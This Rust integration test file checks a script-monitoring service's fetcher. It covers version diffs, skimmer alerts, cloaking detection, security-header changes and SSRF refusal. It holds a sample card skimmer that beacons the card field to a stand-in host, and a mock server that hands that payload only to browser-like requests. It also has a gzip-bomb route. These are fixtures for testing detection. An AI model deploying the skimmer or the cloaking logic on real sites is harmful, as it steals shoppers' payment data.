//! The script fetcher against real loopback upstreams: versions, change alerts with behavioural
//! diffs, browser-hash mismatches, size limits and the SSRF guard (hosts resolving or
//! redirecting to loopback, private, link-local and metadata addresses).

mod common;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use common::*;
use serde_json::Value;

#[derive(Clone)]
struct Upstream {
    body: Arc<Mutex<String>>,
    hits: Arc<AtomicUsize>,
    /// The request headers `/cloaked.js` and `/checkout` received, in order.
    seen: Arc<Mutex<Vec<axum::http::HeaderMap>>>,
    /// The response headers of `/checkout`.
    page_headers: Arc<Mutex<Vec<(&'static str, &'static str)>>>,
    /// The HTML of `/checkout`.
    page_body: Arc<Mutex<String>>,
}

async fn serve_upstream(ip: &str, body: &str) -> (Upstream, String) {
    let up = Upstream {
        body: Arc::new(Mutex::new(body.to_string())),
        hits: Arc::default(),
        seen: Arc::default(),
        page_headers: Arc::default(),
        page_body: Arc::new(Mutex::new(
            "<!doctype html><title>Checkout</title>".to_string(),
        )),
    };
    let app = axum::Router::new()
        .route(
            "/lib.js",
            axum::routing::get(|State(u): State<Upstream>| async move {
                u.hits.fetch_add(1, Ordering::SeqCst);
                (
                    [(header::CONTENT_TYPE, "text/javascript")],
                    u.body.lock().unwrap().clone(),
                )
                    .into_response()
            }),
        )
        .route("/cloaked.js", axum::routing::get(cloaked))
        .route(
            "/pay",
            axum::routing::get(|| async {
                axum::response::Html(format!(
                    "<!doctype html><title>Pay</title><script>window.shopConfig = {{ currency: 'EUR' }};</script>\
                     <script src=\"lib.js?v=2\"></script><script src=\"data:text/javascript,1\"></script>\
                     <form><input name=cc_number></form><script>{SKIMMER}</script>"
                ))
            }),
        )
        // A server that sends a little and then stalls: the body never ends.
        .route(
            "/stall.js",
            axum::routing::get(|| async {
                let chunks = futures_util::stream::unfold(0u32, |n| async move {
                    if n > 0 {
                        tokio::time::sleep(std::time::Duration::from_secs(3600)).await;
                    }
                    Some((
                        Ok::<_, std::io::Error>(axum::body::Bytes::from("var a = 1;\n")),
                        n + 1,
                    ))
                });
                axum::body::Body::from_stream(chunks)
            }),
        )
        // Device cloaking: phones get the variant named in the path, everything else LIB.
        .route(
            "/device/{variant}",
            axum::routing::get(
                |Path(variant): Path<String>, headers: axum::http::HeaderMap| async move {
                    let ua = headers
                        .get("user-agent")
                        .and_then(|v| v.to_str().ok())
                        .unwrap_or("");
                    match (ua.contains("Mobile"), variant.as_str()) {
                        (true, "skim.js") => format!("{LIB}\n{SKIMMER}"),
                        (true, "rebuilt.js") => LIB_REBUILT.to_string(),
                        _ => LIB.to_string(),
                    }
                },
            ),
        )
        .route(
            "/checkout",
            axum::routing::get(
                |State(u): State<Upstream>, headers: axum::http::HeaderMap| async move {
                    u.seen.lock().unwrap().push(headers);
                    let body = u.page_body.lock().unwrap().clone();
                    let mut r = axum::response::Html(body).into_response();
                    for (name, value) in u.page_headers.lock().unwrap().iter() {
                        r.headers_mut().insert(*name, value.parse().unwrap());
                    }
                    r
                },
            ),
        )
        .route(
            "/bomb.js",
            axum::routing::get(|| async {
                // 64 MiB of spaces in about 64 KB of gzip.
                use std::io::Write;
                let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
                let block = vec![b' '; 1 << 20];
                for _ in 0..64 {
                    e.write_all(&block).unwrap();
                }
                (
                    [
                        (header::CONTENT_TYPE, "text/javascript"),
                        (header::CONTENT_ENCODING, "gzip"),
                    ],
                    e.finish().unwrap(),
                )
            }),
        )
        .route(
            "/big.js",
            axum::routing::get(|State(u): State<Upstream>| async move {
                u.hits.fetch_add(1, Ordering::SeqCst);
                "x".repeat(5000)
            }),
        )
        .route(
            "/redirect/{port}/lib.js",
            axum::routing::get(
                |State(u): State<Upstream>, Path(port): Path<u16>| async move {
                    u.hits.fetch_add(1, Ordering::SeqCst);
                    let mut r: Response = StatusCode::FOUND.into_response();
                    let to = format!("http://127.0.0.1:{port}/lib.js");
                    r.headers_mut()
                        .insert(header::LOCATION, to.parse().unwrap());
                    r
                },
            ),
        )
        .with_state(up.clone());
    let listener = tokio::net::TcpListener::bind((ip, 0)).await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (up, format!("http://{addr}"))
}

/// A skimmer host that cloaks, as they do: the payload only for what looks like a shopper's
/// browser loading the script from the victim shop, the clean library for anything else; gzip
/// for clients that take it, as CDNs serve scripts.
async fn cloaked(State(u): State<Upstream>, headers: axum::http::HeaderMap) -> Response {
    use std::io::Write;
    let get = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_string()
    };
    let victim = get("user-agent").contains("Chrome/")
        && get("referer") == "https://shop.example/"
        && get("sec-fetch-dest") == "script";
    let gzip = get("accept-encoding").contains("gzip");
    u.seen.lock().unwrap().push(headers);
    let body = if victim {
        format!("{LIB}\n{SKIMMER}")
    } else {
        LIB.to_string()
    };
    if !gzip {
        return body.into_response();
    }
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(body.as_bytes()).unwrap();
    (
        [
            (header::CONTENT_TYPE, "text/javascript"),
            (header::CONTENT_ENCODING, "gzip"),
        ],
        e.finish().unwrap(),
    )
        .into_response()
}

const LIB: &str = r#"/* tiny widget 1.0 */
(function (window, document) {
  var state = { opened: 0 };
  function open(panel) { state.opened += 1; panel.classList.add("open"); }
  window.widget = { open: open, version: "1.0.0" };
})(window, document);
"#;

const LIB_REBUILT: &str = r#"(function(a,b){var c={opened:7};function d(e){c.opened+=1;e.classList.add("is-open")}a.widget={open:d,version:"1.0.1-build.8812"}})(window,document);"#;

const SKIMMER: &str = r#"
document.addEventListener("submit", function () {
  var card = document.querySelector("input[name=cc_number]").value;
  navigator.sendBeacon("https://widget-cdn-analytics.example.net/c", card);
});
"#;

async fn versions(t: &TestServer, url: &str, n: usize) -> Value {
    let path = format!(
        "/api/v1/sites/shop/scripts/versions?url={}",
        url_encode(url)
    );
    t.eventually(&path, |v| v["versions"].as_array().unwrap().len() >= n)
        .await
}

async fn fetches(t: &TestServer, url: &str) -> Vec<Value> {
    let path = format!(
        "/api/v1/sites/shop/scripts/versions?url={}",
        url_encode(url)
    );
    t.eventually(&path, |v| !v["fetches"].as_array().unwrap().is_empty())
        .await["fetches"]
        .as_array()
        .unwrap()
        .clone()
}

/// A fetch row of the mobile probe (the second look after each successful fetch).
fn is_probe(fetch: &Value) -> bool {
    fetch["outcome"].as_str().unwrap().starts_with("mobile_")
}

async fn report(t: &TestServer, url: &str) {
    let r = t
        .post(
            "application/csp-report",
            script_report("https://shop.example/checkout", url),
        )
        .await;
    assert_eq!(r.status(), 204);
}

/// A server refetching every 300 ms, and `LIB` reported and fetched once: the upstream (to
/// change the body), the server, the script's URL and its inventory entry.
async fn lib_fetched_once() -> (Upstream, TestServer, String, Value) {
    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ninterval = \"300ms\"",
    )
    .await;
    let url = format!("{base}/lib.js");
    report(&t, &url).await;
    versions(&t, &url, 1).await;
    let first = t
        .eventually("/api/v1/sites/shop/scripts", |v| {
            v["scripts"][0]["versions"] == 1
        })
        .await["scripts"][0]
        .clone();
    (up, t, url, first)
}

#[tokio::test]
async fn versions_trivial_rebuilds_and_an_appended_skimmer() {
    let (up, t, url, first) = lib_fetched_once().await;
    assert_eq!(first["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(first["structural_hash"].as_str().unwrap().len(), 32);

    // A rebuild: renamed locals, new literals, no comments. Stored, never alerted.
    *up.body.lock().unwrap() = LIB_REBUILT.to_string();
    let v = versions(&t, &url, 2).await;
    assert_eq!(
        v["versions"][0]["structural_hash"],
        v["versions"][1]["structural_hash"]
    );
    assert!(
        t.api("/api/v1/alerts?kind=script_changed").await["alerts"]
            .as_array()
            .unwrap()
            .is_empty()
    );

    // Twenty-odd lines appended that read the card field and beacon it out.
    *up.body.lock().unwrap() = format!("{LIB_REBUILT}\n{SKIMMER}");
    versions(&t, &url, 3).await;
    let alerts = t
        .eventually("/api/v1/alerts?kind=script_changed", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    let a = &alerts["alerts"][0];
    assert_eq!(a["severity"], "critical");
    assert_eq!(a["subject"], url.as_str());
    let d = &a["details"];
    assert_eq!(d["added_domains"], serde_json::json!(["example.net"]));
    let caps: Vec<&str> = d["added_capabilities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    for want in [
        "network:beacon",
        "read:form-fields",
        "listen:submit-or-click",
    ] {
        assert!(caps.contains(&want), "{want} not in {caps:?}");
    }
    assert!(d["similarity"].as_f64().unwrap() > 0.3);
    assert!(
        d["added_regions"][0]["code"]
            .as_str()
            .unwrap()
            .contains("sendBeacon")
    );

    let diff = t
        .api(&format!(
            "/api/v1/sites/shop/scripts/diff?url={}",
            url_encode(&url)
        ))
        .await;
    assert_eq!(diff["verdict"], "changed");
    assert!(
        diff["added_regions"][0]["code"]
            .as_str()
            .unwrap()
            .contains("document.addEventListener")
    );

    // The classifier: the first version is clean; the change added a skimmer.
    let bad = t
        .eventually("/api/v1/alerts?kind=malicious_script", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    let bad = bad["alerts"].as_array().unwrap();
    assert_eq!(bad.len(), 1, "one alert per version: {bad:?}");
    assert_eq!(bad[0]["severity"], "critical");
    assert_eq!(bad[0]["details"]["scored"], "added_code");
    assert!(bad[0]["details"]["score"].as_u64().unwrap() < 50);
    assert!(
        bad[0]["details"]["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r.as_str().unwrap().contains("skimmer pattern")),
        "{bad:?}"
    );
    assert!(a["details"]["added_code_score"].as_u64().unwrap() < 50);
    let scripts = t.api("/api/v1/sites/shop/scripts").await;
    let script = &scripts["scripts"][0];
    assert!(script["score"].as_u64().unwrap() < 50, "{script}");
    assert_eq!(script["malicious"], true);
    t.server.shutdown().await.unwrap();
}

/// PUTs an authorization of `url` in the name of `by`.
async fn authorize(t: &TestServer, url: &str, by: &str) -> reqwest::Response {
    t.http
        .put(format!(
            "{}/api/v1/sites/shop/scripts/authorization",
            t.base
        ))
        .bearer_auth(TOKEN)
        .json(&serde_json::json!({"url": url, "authorized_by": by}))
        .send()
        .await
        .unwrap()
}

/// The script's entry in the inventory list.
async fn script_entry(t: &TestServer, query: &str) -> Vec<Value> {
    t.api(&format!("/api/v1/sites/shop/scripts{query}")).await["scripts"]
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn an_authorization_survives_a_rebuild_and_lapses_when_the_structure_changes() {
    let (up, t, url, first) = lib_fetched_once().await;
    let base = url.trim_end_matches("/lib.js").to_string();
    assert_eq!(first["authorization"], "unauthorized");

    // Refused: no name, a name with a line break, a script not in the inventory.
    assert_eq!(authorize(&t, &url, " ").await.status(), 400);
    assert_eq!(authorize(&t, &url, "alice\nbob").await.status(), 400);
    let r = authorize(&t, &format!("{base}/other.js"), "alice").await;
    assert_eq!(r.status(), 404);

    let r = authorize(&t, &url, "alice").await;
    assert_eq!(r.status(), 200);
    let record: Value = r.json().await.unwrap();
    assert_eq!(
        record["authorized_structural_hash"],
        first["structural_hash"]
    );
    assert_eq!(record["authorized_sha256"], first["sha256"]);
    let now = &script_entry(&t, "").await[0];
    assert_eq!(
        (&now["authorization"], &now["authorized_by"]),
        (&"authorized".into(), &"alice".into())
    );
    assert_eq!(script_entry(&t, "?authorization=authorized").await.len(), 1);
    assert!(
        script_entry(&t, "?authorization=unauthorized")
            .await
            .is_empty()
    );
    let r = t
        .http
        .get(format!(
            "{}/api/v1/sites/shop/scripts?authorization=maybe",
            t.base
        ))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);

    // A rebuild (renamed locals, new literals) keeps the authorization.
    *up.body.lock().unwrap() = LIB_REBUILT.to_string();
    versions(&t, &url, 2).await;
    assert_eq!(script_entry(&t, "").await[0]["authorization"], "authorized");

    // A skimmer appended lapses it, and the change alert says whose.
    *up.body.lock().unwrap() = format!("{LIB_REBUILT}\n{SKIMMER}");
    versions(&t, &url, 3).await;
    let alerts = t
        .eventually("/api/v1/alerts?kind=script_changed", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    let lapsed = &alerts["alerts"][0]["details"]["authorization_lapsed"];
    assert_eq!(lapsed["authorized_by"], "alice");
    assert_eq!(lapsed["authorized_sha256"], first["sha256"]);
    let changed = t
        .eventually("/api/v1/sites/shop/scripts", |v| {
            v["scripts"][0]["versions"] == 3
        })
        .await["scripts"][0]
        .clone();
    assert_eq!(changed["authorization"], "changed");
    let export = t.api("/api/v1/sites/shop/inventory").await;
    assert_eq!(export["scripts"][0]["authorization"], "changed");
    assert_eq!(export["scripts"][0]["authorized_by"], "alice");

    // Authorizing "the version I looked at" when that is no longer the newest: refused.
    let seen = |sha: &Value| {
        t.http
            .put(format!(
                "{}/api/v1/sites/shop/scripts/authorization",
                t.base
            ))
            .bearer_auth(TOKEN)
            .json(&serde_json::json!({"url": url, "authorized_by": "bob", "sha256": sha}))
            .send()
    };
    assert_eq!(seen(&first["sha256"]).await.unwrap().status(), 409);
    assert_eq!(script_entry(&t, "").await[0]["authorization"], "changed");
    // Looked at again: authorized as it is now; then revoked.
    let r = seen(&changed["sha256"]).await.unwrap();
    assert_eq!(r.status(), 200);
    let record: Value = r.json().await.unwrap();
    assert_eq!(
        record["authorized_structural_hash"],
        changed["structural_hash"]
    );
    assert_eq!(script_entry(&t, "").await[0]["authorization"], "authorized");
    let revoke = |by: &str| {
        t.http
            .delete(format!(
                "{}/api/v1/sites/shop/scripts/authorization?url={}&by={by}",
                t.base,
                url_encode(&url)
            ))
            .bearer_auth(TOKEN)
            .send()
    };
    assert_eq!(revoke("").await.unwrap().status(), 400);
    assert_eq!(revoke("carol").await.unwrap().status(), 204);
    assert_eq!(revoke("carol").await.unwrap().status(), 404);
    // The trail: who authorized which version, and who withdrew it, newest first.
    let trail = t
        .api(&format!(
            "/api/v1/sites/shop/scripts/authorization?url={}",
            url_encode(&url)
        ))
        .await;
    assert_eq!(trail["state"], "unauthorized");
    assert!(trail["current"].is_null());
    let steps: Vec<(&str, &str)> = trail["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["action"].as_str().unwrap(), e["by"].as_str().unwrap()))
        .collect();
    assert_eq!(
        steps,
        [
            ("revoked", "carol"),
            ("authorized", "bob"),
            ("authorized", "alice")
        ]
    );
    assert_eq!(trail["history"][2]["sha256"], first["sha256"]);
    let gone = &script_entry(&t, "").await[0];
    assert_eq!(gone["authorization"], "unauthorized");
    assert!(gone["authorized_by"].is_null());
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn the_fetcher_looks_like_a_visitor_so_a_cloaking_host_hands_over_its_payload() {
    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"",
    )
    .await;
    let url = format!("{base}/cloaked.js");
    report(&t, &url).await; // from https://shop.example/checkout
    let v = versions(&t, &url, 1).await;
    let served = format!("{LIB}\n{SKIMMER}");
    // What a shopper's browser gets, decoded from gzip (the hash browsers report is over the
    // decoded body too).
    assert_eq!(
        v["versions"][0]["sha256"],
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(served.as_bytes()))
    );
    assert_eq!(v["versions"][0]["bytes"], served.len());
    let caps = v["versions"][0]["capabilities"].as_array().unwrap();
    assert!(caps.contains(&"network:beacon".into()), "{caps:?}");
    let seen = up.seen.lock().unwrap().clone();
    let h = &seen[0];
    let get = |name: &str| h.get(name).map(|v| v.to_str().unwrap().to_string());
    assert_eq!(get("referer").as_deref(), Some("https://shop.example/"));
    assert_eq!(get("sec-fetch-site").as_deref(), Some("cross-site"));
    assert!(get("user-agent").unwrap().starts_with("Mozilla/5.0"));
    assert!(get("accept-encoding").unwrap().contains("gzip"));
    // Nothing of a visitor or of Rampart's own credentials.
    for name in ["cookie", "authorization"] {
        assert_eq!(get(name), None, "{name}");
    }
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_fetcher_told_to_announce_itself_gets_the_clean_decoy() {
    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"\nuser_agent = \"Rampart-Fetcher/1 (+inventory)\"\nreferer = false",
    )
    .await;
    let url = format!("{base}/cloaked.js");
    report(&t, &url).await;
    let v = versions(&t, &url, 1).await;
    assert_eq!(
        v["versions"][0]["sha256"],
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(LIB.as_bytes()))
    );
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(
        seen[0].get("user-agent").unwrap(),
        "Rampart-Fetcher/1 (+inventory)"
    );
    assert_eq!(seen[0].get("referer"), None);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn watched_pages_alert_when_their_security_headers_change() {
    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
    *up.page_headers.lock().unwrap() = vec![
        ("content-security-policy", "script-src 'self'"),
        ("strict-transport-security", "max-age=31536000"),
    ];
    let page = format!("{base}/checkout");
    let t = start(
        &format!("watch_pages = [\"{page}\"]"),
        "[fetcher]\nallow_private_addresses = true\ninterval = \"200ms\"",
    )
    .await;
    // The first look is the baseline: recorded, no alert.
    let f = fetches(&t, &page).await;
    assert_eq!(f[0]["outcome"], "headers");
    assert_eq!(f[0]["status_code"], 200);
    let kind = "/api/v1/alerts?kind=security_headers_changed";
    assert!(t.api(kind).await["alerts"].as_array().unwrap().is_empty());
    // The origin's CSP disappears (a tampered server config, or a release that lost it).
    up.page_headers.lock().unwrap().remove(0);
    let alerts = t
        .eventually(kind, |v| !v["alerts"].as_array().unwrap().is_empty())
        .await;
    let a = &alerts["alerts"][0];
    assert_eq!(a["severity"], "critical");
    assert_eq!(a["subject"], page.as_str());
    assert_eq!(
        a["details"]["changes"],
        serde_json::json!([{ "header": "content-security-policy", "before": "script-src 'self'", "after": null }])
    );
    // Later rounds see the same headers again: one alert for one change.
    let rounds = up.seen.lock().unwrap().len();
    while up.seen.lock().unwrap().len() < rounds + 2 {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(t.api(kind).await["alerts"].as_array().unwrap().len(), 1);
    // The current headers, in the API and on the site's dashboard page.
    let v = t.api("/api/v1/sites/shop/security-headers").await;
    assert_eq!(v["pages"][0]["page"], page.as_str());
    assert_eq!(v["pages"][0]["watched"], true);
    assert_eq!(
        v["pages"][0]["headers"],
        serde_json::json!({ "strict-transport-security": "max-age=31536000" })
    );
    let html = t.get("/sites/shop").await.text().await.unwrap();
    assert!(html.contains("Security headers (1 pages)"), "{html}");
    assert!(html.contains("max-age=31536000"));
    // Asked for as a browser navigates.
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen[0].get("sec-fetch-dest").unwrap(), "document");
    assert_eq!(seen[0].get("sec-fetch-mode").unwrap(), "navigate");
    assert!(
        seen[0]
            .get("user-agent")
            .unwrap()
            .to_str()
            .unwrap()
            .starts_with("Mozilla/5.0")
    );
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_watched_page_s_scripts_are_inventoried_and_a_skimmer_among_them_alerts() {
    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
    let page = format!("{base}/pay");
    let t = start(
        &format!("watch_pages = [\"{page}\"]"),
        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"",
    )
    .await;
    let scripts = t
        .eventually("/api/v1/sites/shop/scripts", |v| {
            v["scripts"].as_array().unwrap().len() >= 3
        })
        .await;
    let scripts = scripts["scripts"].as_array().unwrap();
    assert_eq!(scripts.len(), 3, "{scripts:?}");
    let mut inline = 0;
    for s in scripts {
        let url = s["url"].as_str().unwrap();
        if url.starts_with("inline:sha256-") {
            inline += 1;
        } else {
            // The `<script src>`, resolved against the page, without its query string (the
            // `data:` one is noise, as in a browser report).
            assert_eq!(url, format!("{base}/lib.js"));
        }
        assert_eq!(s["first_page"], page.as_str());
    }
    assert_eq!(inline, 2);
    // And the external one is fetched like any reported script.
    versions(&t, &format!("{base}/lib.js"), 1).await;
    // Classified on the whole text, which no browser report carries.
    let v = t
        .eventually("/api/v1/alerts?kind=malicious_script", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    let alerts = v["alerts"].as_array().unwrap();
    assert_eq!(alerts.len(), 1, "only the skimmer: {v}");
    assert_eq!(alerts[0]["details"]["scored"], "inline");
    assert_eq!(alerts[0]["details"]["page"], page.as_str());
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_watched_page_s_scripts_are_compared_and_additions_and_removals_alert() {
    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
    let port = base.rsplit(':').next().unwrap().to_string();
    let set_page = |scripts: &str| {
        *up.page_body.lock().unwrap() = format!("<!doctype html><title>Checkout</title>{scripts}");
    };
    let rounds = || up.seen.lock().unwrap().len();
    let wait_rounds = |n: usize| {
        let from = rounds();
        async move {
            while rounds() < from + n {
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        }
    };
    set_page(r#"<script src="/lib.js"></script><script>var t = "tok-1"; start(t);</script>"#);
    let page = format!("{base}/checkout");
    let t = start(
        &format!("watch_pages = [\"{page}\"]"),
        "[fetcher]\nallow_private_addresses = true\ninterval = \"200ms\"",
    )
    .await;
    let kind = "/api/v1/alerts?kind=page_scripts_changed";
    wait_rounds(1).await;
    // A new token in the inline script on every load: the same script.
    set_page(r#"<script src="/lib.js"></script><script>var t = "tok-2"; start(t);</script>"#);
    wait_rounds(3).await;
    assert!(t.api(kind).await["alerts"].as_array().unwrap().is_empty());

    // A script from another domain appears (localhost: another registrable domain than
    // 127.0.0.1, fetchable on loopback).
    set_page(&format!(
        r#"<script src="/lib.js"></script><script>var t = "tok-3"; start(t);</script><script src="http://localhost:{port}/lib.js?x=1"></script>"#
    ));
    let v = t
        .eventually(kind, |v| !v["alerts"].as_array().unwrap().is_empty())
        .await;
    let a = &v["alerts"][0];
    assert_eq!(a["subject"], page.as_str());
    assert_eq!(a["severity"], "critical");
    assert_eq!(
        a["details"]["new_domains"],
        serde_json::json!(["localhost"])
    );
    assert_eq!(
        a["details"]["added"],
        serde_json::json!([{ "url": format!("http://localhost:{port}/lib.js") }])
    );
    assert_eq!(a["details"]["removed"], serde_json::json!([]));

    // One is removed: a warning naming it.
    set_page(&format!(
        r#"<script>var t = "tok-4"; start(t);</script><script src="http://localhost:{port}/lib.js"></script>"#
    ));
    let v = t
        .eventually(kind, |v| v["alerts"].as_array().unwrap().len() == 2)
        .await;
    let a = &v["alerts"][0];
    assert_eq!(a["severity"], "warning");
    assert_eq!(
        a["details"]["removed"],
        serde_json::json!([{ "url": format!("{base}/lib.js") }])
    );
    wait_rounds(3).await;
    assert_eq!(
        t.api(kind).await["alerts"].as_array().unwrap().len(),
        2,
        "one alert per change"
    );
    // On the dashboard: what was added and removed, the page not taken for a script.
    let html = t
        .get("/alerts?kind=page_scripts_changed")
        .await
        .text()
        .await
        .unwrap();
    assert!(
        html.contains(&format!("http://localhost:{port}/lib.js")),
        "{html}"
    );
    assert!(!html.contains("/script?url="), "{html}");
    // What the page carries now, in the API and on the site page.
    let v = t.api("/api/v1/sites/shop/watched-pages").await;
    assert_eq!(v["pages"][0]["page"], page.as_str());
    let scripts = v["pages"][0]["scripts"].as_array().unwrap();
    assert_eq!(scripts.len(), 2, "{v}");
    assert!(
        scripts
            .iter()
            .any(|s| s["url"] == format!("http://localhost:{port}/lib.js").as_str())
    );
    assert!(scripts.iter().any(
        |s| s["inline"] == true && s["sample"].as_str().unwrap().starts_with("var t = \"tok-")
    ));
    let html = t.get("/sites/shop").await.text().await.unwrap();
    assert!(html.contains("Watched pages (1)"), "{html}");
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_watched_page_on_a_private_address_is_refused_and_recorded() {
    let page = "http://127.0.0.1:9/checkout";
    let t = start(
        &format!("watch_pages = [\"{page}\"]"),
        "[fetcher]\ninterval = \"1h\"",
    )
    .await;
    let f = fetches(&t, page).await;
    assert_eq!(f[0]["outcome"], "refused", "{f:?}");
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_script_that_phones_get_in_another_shape_raises_script_cloaked() {
    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ninterval = \"300ms\"",
    )
    .await;
    let skim = format!("{base}/device/skim.js");
    let rebuilt = format!("{base}/device/rebuilt.js");
    report(&t, &skim).await;
    report(&t, &rebuilt).await;
    let kind = "/api/v1/alerts?kind=script_cloaked";
    let v = t
        .eventually(kind, |v| !v["alerts"].as_array().unwrap().is_empty())
        .await;
    let a = &v["alerts"][0];
    assert_eq!(a["subject"], skim.as_str());
    assert_eq!(a["severity"], "critical");
    let d = &a["details"];
    assert_eq!(d["verdict"], "changed");
    assert_eq!(d["added_domains"], serde_json::json!(["example.net"]));
    assert!(
        d["added_capabilities"]
            .as_array()
            .unwrap()
            .contains(&"network:beacon".into()),
        "{d}"
    );
    assert!(d["similarity"].as_f64().unwrap() > 0.5, "{d}");
    let mobile_body = format!("{LIB}\n{SKIMMER}");
    let mobile_sha = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
        mobile_body.as_bytes(),
    ));
    assert_eq!(d["mobile_sha256"], mobile_sha.as_str());
    // The desktop body stays the stored version; the probe's look is a fetch record.
    let v = versions(&t, &skim, 1).await;
    assert_eq!(
        v["versions"][0]["sha256"],
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(LIB.as_bytes()))
    );
    assert!(v["versions"].as_array().unwrap().len() == 1, "{v}");
    let f = fetches(&t, &skim).await;
    assert!(f.iter().any(|f| f["outcome"] == "mobile_differs"), "{f:?}");
    // The script's dashboard page lists both looks.
    let html = t
        .get(&format!("/sites/shop/script?url={}", url_encode(&skim)))
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains("id=\"fetches\""), "{html}");
    assert!(html.contains("mobile_differs") && html.contains("new_version"));
    // A re-minified copy for phones is the same script: recorded, not alerted.
    let f = t
        .eventually(
            &format!(
                "/api/v1/sites/shop/scripts/versions?url={}",
                url_encode(&rebuilt)
            ),
            |v| {
                v["fetches"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|f| f["outcome"] == "mobile_trivial")
            },
        )
        .await;
    assert!(!f.to_string().contains("mobile_differs"), "{f}");
    // Phones that report running the variant (csp-hash) ran what the probe saw: no mismatch.
    let hash = format!(
        "sha256-{}",
        <base64::engine::general_purpose::GeneralPurpose as base64::Engine>::encode(
            &base64::engine::general_purpose::STANDARD,
            <sha2::Sha256 as sha2::Digest>::digest(mobile_body.as_bytes())
        )
    );
    let body = format!(
        r#"[{{"type":"csp-hash","url":"https://shop.example/","body":{{"documentURL":"https://shop.example/","subresourceURL":"{skim}","hash":"{hash}","type":"subresource","destination":"script"}}}}]"#
    );
    assert_eq!(t.post("application/reports+json", body).await.status(), 204);
    let rounds = fetches(&t, &skim).await.len();
    t.eventually(
        &format!(
            "/api/v1/sites/shop/scripts/versions?url={}",
            url_encode(&skim)
        ),
        |v| v["fetches"].as_array().unwrap().len() >= rounds + 4,
    )
    .await;
    let mismatches = t.api("/api/v1/alerts?kind=script_hash_mismatch").await;
    assert!(
        mismatches["alerts"].as_array().unwrap().is_empty(),
        "{mismatches}"
    );
    assert_eq!(t.api(kind).await["alerts"].as_array().unwrap().len(), 1);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_browser_hash_that_matches_no_fetched_version_alerts() {
    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"",
    )
    .await;
    let url = format!("{base}/lib.js");
    // What visitors ran (per Chromium's csp-hash report) is not what the server gives us.
    let body = format!(
        r#"[{{"type":"csp-hash","url":"https://shop.example/","body":{{"documentURL":"https://shop.example/","subresourceURL":"{url}","hash":"sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=","type":"subresource","destination":"script"}}}}]"#
    );
    assert_eq!(t.post("application/reports+json", body).await.status(), 204);
    let v = t
        .eventually("/api/v1/alerts?kind=script_hash_mismatch", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    assert_eq!(v["alerts"][0]["severity"], "critical");
    assert_eq!(
        v["alerts"][0]["details"]["reported_by_browsers"],
        "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
    );
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_matching_browser_hash_is_quiet() {
    use base64::Engine;
    use sha2::Digest;
    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"",
    )
    .await;
    let url = format!("{base}/lib.js");
    let hash = format!(
        "sha256-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(LIB))
    );
    let body = format!(
        r#"[{{"type":"csp-hash","url":"https://shop.example/","body":{{"documentURL":"https://shop.example/","subresourceURL":"{url}","hash":"{hash}","type":"subresource","destination":"script"}}}}]"#
    );
    assert_eq!(t.post("application/reports+json", body).await.status(), 204);
    versions(&t, &url, 1).await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
